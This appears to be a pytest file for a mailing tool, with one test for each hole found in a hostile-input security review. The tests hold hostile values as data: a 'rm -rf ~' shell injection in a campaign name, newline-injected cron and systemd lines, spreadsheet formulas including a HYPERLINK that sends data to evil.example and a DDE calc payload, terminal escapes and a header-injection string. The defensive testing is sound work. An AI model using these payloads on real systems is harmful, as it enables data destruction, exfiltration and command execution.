"""The holes of the second hostile-input review (issue 17), one test per hole, each
through the real stage that had it: vCard reader, address check, Composer, profile,
terminal output, file modes, card images."""

from __future__ import annotations

import csv
import email
import os
import re
import stat
import struct
import subprocess
import sys
import zlib
from email.header import decode_header, make_header
from email.policy import default as default_policy
from pathlib import Path

import pytest
from click.testing import CliRunner

from mailer.cli import main
from mailer.compose.message import MAX_LINE, Composer
from mailer.compose.profile import Profile, load_profile
from mailer.contacts import load_contacts
from mailer.errors import ConfigError, TemplateError
from mailer.journal import Journal
from mailer.models import Contact, Rejected
from tests.bounds import deadline
from tests.conftest import write_contacts
from tests.smtpd import Fault, SmtpServer

PROJECT = Path(__file__).resolve().parents[1]
HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
# Issue 17, item 1: 144 bytes that hung vobject's parseLine for days
BACKTRACK_VCARD = (
    b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN;X" + b"=a" * 40 + b"\r\nEMAIL:ok@example.com\r\n"
    b"END:VCARD\r\n"
)


@pytest.fixture
def profile() -> Profile:
    return load_profile(PROJECT / "profile.example.toml")


def header_lines(payload: bytes) -> list[bytes]:
    return payload.split(b"\r\n\r\n", 1)[0].split(b"\r\n")


# -- 1 and 4: vCard lines are bounded before vobject sees them ------------------------------


@pytest.mark.parametrize(
    "line",
    [
        b"FN;X" + b"=a" * 40,  # no colon at all
        b"FN;X" + b"=a" * 40 + b'"=a:v',  # a colon, but a broken parameter list before it
        b"FN" + b";X=a,b" * 30 + b'"=a:v',
        b"EMAIL;TYPE" + b"=a" * 40 + b";X:" + b"c@example.com",
    ],
)
def test_a_line_that_makes_vobject_backtrack_is_read_at_once(tmp_path: Path, line: bytes) -> None:
    path = tmp_path / "backtrack.vcf"
    path.write_bytes(BACKTRACK_VCARD.replace(b"FN;X" + b"=a" * 40, line))
    with deadline(2, "reading the card"):
        result = load_contacts([path])
    assert result.read == 1
    assert result.contacts[0].emails[-1] == "ok@example.com"


def test_a_property_line_over_64_kb_rejects_its_card_only(tmp_path: Path) -> None:
    path = tmp_path / "big.vcf"
    with path.open("wb") as fh:
        fh.write(b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:" + b"a" * (8 << 20) + b"\r\n")
        fh.write(b"EMAIL:big@example.com\r\nEND:VCARD\r\n")
        fh.write(b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Folded\r\n")
        fh.write(
            b"NOTE:x\r\nTITLE:" + b"t" * 70 + b"".join([b"\r\n " + b"t" * 70] * 1000) + b"\r\n"
        )
        fh.write(b"EMAIL:folded@example.com\r\nEND:VCARD\r\n")
        fh.write(
            b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Fine\r\nEMAIL:fine@example.com\r\nEND:VCARD\r\n"
        )
    result = load_contacts([path])
    assert [c.email for c in result.contacts] == ["fine@example.com"]
    assert [(r.source, r.reason) for r in result.rejected] == [
        (f"{path}:1", "a property line is longer than 64 KB"),
        (f"{path}:6", "a property line is longer than 64 KB"),
    ]


def test_a_csv_field_over_64_kb_rejects_its_row(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_text(f"Name,Email\n{'n' * 70_000},big@example.com\nFine,fine@example.com\n")
    result = load_contacts([path])
    assert [c.email for c in result.contacts] == ["fine@example.com"]
    (rejected,) = result.rejected
    assert rejected.reason == "name is longer than 64 KB"
    assert rejected.fields == {"email": "big@example.com"}


# -- 2 and 8: addresses and names in headers ------------------------------------------------


@pytest.mark.parametrize("name", ["Joerg", "", "Jörg", 'J "the" Ö', "Ünal, Jörg"])
def test_an_international_address_renders_whatever_the_name(profile: Profile, name: str) -> None:
    draft = Composer(profile).render(Contact(email="jörg@example.com", name=name))
    assert draft.smtputf8 and draft.recipient == "jörg@example.com"
    msg = email.message_from_string(draft.payload.decode("utf-8"), policy=default_policy)
    (address,) = msg["To"].addresses
    assert address.addr_spec == "jörg@example.com"
    assert address.display_name == name


@pytest.mark.parametrize(
    "name", ['"' * 498, "\\" * 600, '"' * 300 + "x" * 400, "a" * 997, ("Ünal " * 200).strip()]
)
def test_no_header_line_is_longer_than_998_octets(profile: Profile, name: str) -> None:
    for address in ("a@example.com", "jörg@example.com"):
        draft = Composer(profile).render(Contact(email=address, name=name))
        assert max(len(line) for line in header_lines(draft.payload)) <= MAX_LINE
        assert display_name(draft.payload) == name


def display_name(payload: bytes) -> str:
    """The To header's name as RFC 2047 reads it (the stdlib's address parser puts a
    space between adjacent encoded words, which RFC 2047 6.2 says to drop)."""
    found = re.search(rb"^To: (.*?)\r\n(?! )", payload, re.MULTILINE | re.DOTALL)
    assert found is not None
    phrase = found.group(1).decode("utf-8").replace("\r\n", "").rpartition(" <")[0]
    return str(make_header(decode_header(phrase)))


# -- 6: cleaning may reject an address, never change it -------------------------------------


@pytest.mark.parametrize(
    "value",
    ["foo=?bar@example.com", "foo\u200b@example.com", "fo\x1bo@example.com", "a\u202e@example.com"],
)
def test_an_address_that_is_not_clean_is_rejected_not_rewritten(tmp_path: Path, value: str) -> None:
    path = tmp_path / "c.csv"
    path.write_text(f"Name,Email\nFoo,{value}\n", encoding="utf-8")
    result = load_contacts([path])
    assert result.contacts == []
    (rejected,) = result.rejected
    assert rejected.reason.startswith(f"invalid e-mail address {value!r}")


def test_an_ocr_contact_with_an_unclean_address_is_rejected(tmp_path: Path) -> None:
    from mailer.contacts.normalize import sanitise

    item = sanitise(Contact(email="foo=?bar@example.com", emails=("foo=?bar@example.com",)))
    assert isinstance(item, Rejected) and "=?" in item.reason


# -- 7: the profile goes through the same cleaner -------------------------------------------


def write_profile(tmp_path: Path, extra: str) -> Path:
    path = tmp_path / "profile.toml"
    path.write_text(f'email = "alex@example.com"\n{extra}\n', encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ('name = "Alex\\u000bExample"', r"control or format character \x0b"),
        ('name = "Alex\\u000cExample"', r"\x0c"),
        ('name = "Alex\\u001b[31mExample"', r"\x1b"),
        ('name = "Alex\\u202eelpmaxE"', r"\u202e"),
        ('name = "=?utf-8?q?Alex=0D=0ABcc:_eve@example.net?="', '"=?"'),
        ('name = "A"\norganisation = "Org\\u0085 Inc"', r"\x85"),
        ('name = "A"\nunsubscribe_url = "https://example.com/u\\u001b]0;x"', r"\x1b"),
    ],
)
def test_profile_values_with_control_characters_or_encoded_words_are_refused(
    tmp_path: Path, line: str, why: str
) -> None:
    with pytest.raises(ConfigError) as err:
        load_profile(write_profile(tmp_path, line))
    assert why in str(err.value)


def test_an_idn_unsubscribe_url_is_sent_in_its_ascii_form(tmp_path: Path) -> None:
    path = write_profile(tmp_path, 'name = "Alex"\nunsubscribe_url = "https://bücher.example/ab/ü"')
    profile = load_profile(path)
    assert profile.unsubscribe_url == "https://xn--bcher-kva.example/ab/%C3%BC"
    draft = Composer(profile).render(Contact(email="a@example.com"))
    assert b"<https://xn--bcher-kva.example/ab/%C3%BC>" in draft.payload


def test_a_profile_name_too_long_for_one_line_is_encoded_and_folded(tmp_path: Path) -> None:
    profile = load_profile(write_profile(tmp_path, 'name = "' + '\\"' * 600 + '"'))
    draft = Composer(profile).render(Contact(email="a@example.com"))
    assert max(len(line) for line in header_lines(draft.payload)) <= MAX_LINE


# -- 15: a template cannot write gigabytes --------------------------------------------------


def write_templates(tmp_path: Path, body: str) -> Path:
    folder = tmp_path / "templates" / "en"
    folder.mkdir(parents=True)
    (folder / "subject.txt.j2").write_text("Hi")
    (folder / "body.txt.j2").write_text(body)
    (folder / "body.html.j2").write_text("<p>x</p>")
    return folder.parent


@pytest.mark.parametrize(
    "body",
    [
        "{{ 'a' * 10**9 }}",
        "{{ 10**9 * 'a' }}",
        "{{ ['a'] * 10**9 }}",
        "{{ 7 ** (10 ** 9) }}",
        "{% for i in range(100000) %}{% for j in range(100000) %}xxxxxxxx{% endfor %}{% endfor %}",
        "{{ 'a' * 200000 }}{{ 'b' * 200000 }}",
    ],
)
def test_a_template_that_writes_too_much_is_a_render_error(
    profile: Profile, tmp_path: Path, body: str
) -> None:
    composer = Composer(profile, templates=write_templates(tmp_path, body))
    with deadline(5, "rendering"), pytest.raises(TemplateError, match=r"en/body\.txt\.j2"):
        composer.render(Contact(email="a@example.com"))


# -- 10: nothing from outside reaches a terminal raw ----------------------------------------


def test_file_names_with_terminal_escapes_are_printed_escaped(tmp_path: Path) -> None:
    folder = tmp_path / "e\x1b]0;PWNED\x07"
    folder.mkdir()
    path = folder / "x\x1b[2J\nb.csv"
    path.write_text("Name,Email\nNo Address,\nOk,ok@example.com\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    result = CliRunner().invoke(
        main, ["contacts", str(path), "--rejects", str(rejects)], env={"COLUMNS": "300"}
    )
    assert result.exit_code == 0, result.output
    for raw in ("\x1b", "\x07"):
        assert raw not in result.output
    assert "no e-mail address" in result.output
    written = rejects.read_text(encoding="utf-8-sig")
    assert "\x1b" not in written and "x\nb.csv" not in written
    # an error naming such a file is escaped too
    missing = CliRunner().invoke(main, ["contacts", str(folder / "gone\x1b[2J.vcf")])
    assert missing.exit_code == 2 and "\x1b" not in missing.output


# -- 11: the state is private whatever the umask --------------------------------------------


def test_state_directory_journal_and_cache_are_private_whatever_the_umask(
    tmp_path: Path,
) -> None:
    home = tmp_path / "state"
    script = (
        "import os; os.umask(0); from mailer import config; from mailer.journal import Journal;"
        "from mailer.contacts.scans import _cache_write;"
        "home = config.state_dir(os.environ);"
        "j = Journal(home / 'journal.sqlite3'); j.run_id; j.close();"
        "from mailer.contacts.scans import default_cache_dir;"
        "_cache_write(default_cache_dir() / 'v' / 'x.json', [])"
    )
    env = {**os.environ, "MAILER_HOME": str(home), "PYTHONPATH": str(PROJECT)}
    subprocess.run([sys.executable, "-c", script], env=env, check=True)
    modes = {
        p.relative_to(home).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in home.rglob("*")
    }
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    assert modes and all(
        mode == (0o700 if (home / name).is_dir() else 0o600) for name, mode in modes.items()
    ), modes


def test_an_existing_world_readable_journal_is_made_private(tmp_path: Path) -> None:
    path = tmp_path / "journal.sqlite3"
    Journal(path).close()
    path.chmod(0o644)
    Journal(path).close()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_the_cli_writes_reports_privately(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text("Name,Email\nNo Address,\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    old = os.umask(0)
    try:
        CliRunner().invoke(main, ["contacts", str(path), "--rejects", str(rejects)])
    finally:
        os.umask(old)
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600


# -- 14: one bad card image never ends the batch --------------------------------------------


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims width x height pixels; its data is cut short (decoding it would
    take width * height * 3 bytes)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 999))


def test_a_huge_or_truncated_image_is_one_rejected_card(tmp_path: Path) -> None:
    pytest.importorskip("rapidocr", reason="the OCR extra is not installed")
    from mailer.contacts.scans import Page, load_page

    huge = tmp_path / "huge.png"
    huge.write_bytes(png_header(13300, 13300))
    truncated = tmp_path / "truncated.jpg"
    truncated.write_bytes((HOSTILE / "truncated-heic.jpg").read_bytes())
    with pytest.raises(ValueError, match="13300x13300 pixels"):
        load_page(Page(huge))
    with pytest.raises(ValueError, match="damaged or truncated"):
        load_page(Page(truncated))
    result = load_contacts([huge, truncated])
    assert result.contacts == [] and len(result.rejected) == 2
    assert all(r.reason.startswith("cannot read the file") for r in result.rejected)


def test_a_pdf_with_too_many_pages_reads_only_the_first_pages(tmp_path: Path) -> None:
    pytest.importorskip("rapidocr", reason="the OCR extra is not installed")
    import pypdfium2

    from mailer.contacts.scans import MAX_PDF_PAGES, Page, card_pages, load_page

    pdf = pypdfium2.PdfDocument.new()
    for _ in range(MAX_PDF_PAGES + 50):
        pdf.new_page(252, 144)
    path = tmp_path / "stack.pdf"
    pdf.save(str(path))
    pdf.close()
    pages = card_pages([path])
    assert len(pages) == MAX_PDF_PAGES + 1
    with pytest.raises(ValueError, match=f"{MAX_PDF_PAGES + 50} pages; only the first"):
        load_page(pages[-1])
    assert load_page(Page(path, 0)).size[0] > 0


# -- 3: a newline in a path cannot add cron lines or systemd directives ---------------------


@pytest.mark.parametrize(
    "field",
    ["workdir", "mailer_home", "log"],
)
def test_paths_with_newlines_are_refused_for_cron_and_systemd(tmp_path: Path, field: str) -> None:
    from mailer.schedule import timer

    evil = str(tmp_path / "x\n* * * * * touch /tmp/pwned #\nExecStartPre=/bin/evil")
    values = {"workdir": tmp_path, "mailer_home": "", "log": tmp_path / "run-due.log"}
    values[field] = Path(evil) if field != "mailer_home" else evil
    with pytest.raises(ConfigError, match="cannot hold safely"):
        timer.Job(command=("/usr/bin/mailer", "run-due"), **values)  # type: ignore[arg-type]


def test_schedule_install_print_from_a_folder_with_a_newline_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "x\n* * * * * touch pwned #"
    folder.mkdir()
    monkeypatch.chdir(folder)
    for kind in ("--cron", "--systemd"):
        result = CliRunner().invoke(main, ["schedule", "install", kind, "--print"])
        assert result.exit_code == 2, result.output
        assert "cannot hold safely" in result.output
        assert "\n* * * * *" not in result.output


# -- 9: test seams are not settings ---------------------------------------------------------


def test_a_dotenv_in_the_working_folder_cannot_name_the_crontab_program(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = tmp_path / "evil.sh"
    evil.write_text(f"#!/bin/sh\necho run > {tmp_path / 'pwned'}\n")  # builtins only
    evil.chmod(0o755)
    (tmp_path / ".env").write_text(
        f"MAILER_CRONTAB={evil}\nMAILER_SYSTEMCTL={evil}\nMAILER_SYSTEMD_DIR={tmp_path / 'u'}\n"
    )
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("MAILER_ENV_FILE")  # the default: ./.env
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))  # and no real crontab to fall back on
    for name in ("MAILER_CRONTAB", "MAILER_SYSTEMCTL", "MAILER_SYSTEMD_DIR"):
        monkeypatch.delenv(name, raising=False)
    CliRunner().invoke(main, ["schedule", "show"])
    CliRunner().invoke(main, ["schedule", "install", "--cron"])
    assert not (tmp_path / "pwned").exists()
    assert not (tmp_path / "u").exists()


# -- 13: suggested commands are shell-quoted ------------------------------------------------


def test_suggested_commands_quote_the_campaign_name(
        work: Path, server: SmtpServer, monkeypatch: pytest.MonkeyPatch) -> None:
    import shlex

    hostile = "x; rm -rf ~ #"

    def send() -> list[str]:  # the commands the output suggests between backticks
        result = CliRunner().invoke(main, ["send", "contacts.csv", "--profile", "profile.toml",
                                           "--campaign", hostile, "--rate", "none", "--yes"])
        return [part for part in result.output.split("`")[1::2] if hostile in part]

    server.fault("anna@example.com", Fault(action="drop", stage="data", delivered=True))
    assert [shlex.split(c) for c in send()] == [["mailer", "resend", "--unknown",
                                                 "--campaign", hostile]]
    write_contacts(work, [("Dan", "dan@example.com")])  # someone new, and the login fails
    monkeypatch.setenv("MAILER_SMTP_PASSWORD", "wrong")
    assert [shlex.split(c) for c in send()] == [["mailer", "resume", hostile],
                                                ["mailer", "cancel", hostile]]


def test_a_campaign_named_after_a_hostile_file_is_clean(tmp_path: Path, profile: Profile) -> None:
    path = tmp_path / "ev\x1b]0;x\x07il.csv"
    path.write_text("Name,Email\nA,a@example.com\n", encoding="utf-8")
    result = CliRunner().invoke(
        main,
        [
            "preview",
            str(path),
            "--profile",
            str(PROJECT / "profile.example.toml"),
            "--out",
            str(tmp_path / "out"),
        ],
    )
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "ev]0;xil" in result.output


# -- 5: no formula reaches a spreadsheet through --rejects or the problems report -----------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)"]  # fmt: skip


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def formula_cells(path: Path) -> list[str]:
    return [cell for cell in cells(path) if cell.startswith(("=", "+", "-", "@"))]


def test_rejects_csv_cells_are_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["Name", "Company", "Title", "Email"])
        for formula in FORMULAS:
            writer.writerow([formula, formula, formula, formula])  # an address like that: invalid
    rejects = tmp_path / "rejects.csv"
    result = CliRunner().invoke(main, ["contacts", str(path), "--rejects", str(rejects)])
    assert result.exit_code == 0, result.output
    assert "'" + FORMULAS[0] in cells(rejects)  # kept, as text
    assert formula_cells(rejects) == []


def test_problems_csv_cells_are_never_formulas(tmp_path: Path) -> None:
    from mailer.campaign.problems import write_problems
    from mailer.models import State
    from tests.smtpd import make_draft

    recipients = ["=2+3@example.com", "+1@example.com", "-1@example.com"]
    with Journal(tmp_path / "journal.sqlite3") as journal:
        journal.enqueue("=HYPERLINK(1)", [make_draft(r) for r in recipients])
        for formula in FORMULAS[:3]:
            row = journal.claim("=HYPERLINK(1)")
            assert row is not None
            journal.mark(row.id, State.FAILED, None, formula)
        report = write_problems(journal, "=HYPERLINK(1)", tmp_path)
    assert report is not None and report.parent == tmp_path
    assert "'=2+3@example.com" in cells(report)
    assert formula_cells(report) == []


# -- 12: preview writes only into its own folder ---------------------------------------------


def preview_items(profile: Profile, count: int = 2) -> list[object]:
    from mailer.campaign.plan import plan

    entries = [Contact(email=f"p{i}@example.com", source=f"c.csv:{i}") for i in range(count)]
    return list(plan(entries, Composer(profile), None))


def test_preview_refuses_a_folder_with_files_it_did_not_write(
    tmp_path: Path, profile: Profile
) -> None:
    from mailer.campaign.preview import write_preview

    out = tmp_path / "mine"
    out.mkdir()
    (out / "0001-keep.eml").write_text("the user's own mail")
    with pytest.raises(ConfigError, match="did not write"):
        write_preview(preview_items(profile), out)  # type: ignore[arg-type]
    assert (out / "0001-keep.eml").read_text() == "the user's own mail"


def test_preview_never_writes_through_a_symlink(tmp_path: Path, profile: Profile) -> None:
    from mailer.campaign.preview import write_preview

    target = tmp_path / "elsewhere.html"
    target.write_text("precious")
    out = tmp_path / "preview"
    write_preview(preview_items(profile), out)  # type: ignore[arg-type]
    (out / "index.html").unlink()
    (out / "index.html").symlink_to(target)  # planted between two previews
    write_preview(preview_items(profile, 1), out)  # type: ignore[arg-type]
    assert target.read_text() == "precious"
    assert not (out / "index.html").is_symlink()
    assert sorted(p.name for p in out.glob("*.eml")) == ["0001-p0@example.com.eml"]
    link = tmp_path / "link"
    link.symlink_to(out)
    with pytest.raises(ConfigError, match="symbolic link"):
        write_preview(preview_items(profile), link)  # type: ignore[arg-type]


def test_preview_replaces_only_its_own_files(tmp_path: Path, profile: Profile) -> None:
    from mailer.campaign.preview import write_preview

    out = tmp_path / "preview"
    write_preview(preview_items(profile, 3), out)  # type: ignore[arg-type]
    (out / "notes.txt").write_text("mine")  # the user's, added to mailer's folder
    write_preview(preview_items(profile, 1), out)  # type: ignore[arg-type]
    assert (out / "notes.txt").read_text() == "mine"
    assert len(list(out.glob("*.eml"))) == 1
    assert stat.S_IMODE((out / "index.html").stat().st_mode) == 0o600
